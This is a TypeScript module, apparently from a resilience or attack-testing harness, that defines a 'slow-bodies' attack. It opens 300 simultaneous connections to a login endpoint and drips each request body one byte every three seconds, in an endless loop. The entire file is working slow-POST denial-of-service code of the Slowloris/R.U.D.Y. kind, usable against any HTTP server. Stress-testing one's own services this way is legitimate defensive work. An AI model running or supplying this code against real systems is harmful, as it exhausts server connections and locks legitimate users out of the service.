import { setTimeout as delay } from 'node:timers/promises';
import { openTo } from '../attacker/connection.ts';
import { forever } from '../attacker/forever.ts';
import type { Arms, Attack, Told } from './attack.ts';

const CONNECTIONS = 300;
const BYTE_EVERY_MS = 3_000;

export const slowBodies: readonly Attack[] = [
  {
    name: 'slow-bodies',
    what: `${CONNECTIONS} logins at once from one address, a byte of each every ${BYTE_EVERY_MS / 1_000} s`,
    ...{ items: 0, accounts: 0, isShort: true },
    async run(arms, told) {
      await Promise.all(Array.from({ length: CONNECTIONS }, () => logInSlowly(arms, told)));
    },
  },
];

async function logInSlowly(arms: Arms, told: Told): Promise<void> {
  const { host, pathname } = new URL(arms.api);
  const body = String(new URLSearchParams({ username: arms.email, password: arms.password }));
  const head = [
    `POST ${pathname}/login/access-token HTTP/1.1`,
    `Host: ${host}`,
    'Content-Type: application/x-www-form-urlencoded',
    `Content-Length: ${body.length}`,
  ].join('\r\n');
  await forever(async () => {
    const { socket, closed, status } = await openTo(arms);
    socket.write(`${head}\r\n\r\n`);
    told.sent(1);
    for (const byte of body) {
      if (!socket.writable) break;
      socket.write(byte);
      await Promise.race([closed, delay(BYTE_EVERY_MS)]);
    }
    socket.destroy();
    told.heard(status());
  });
}
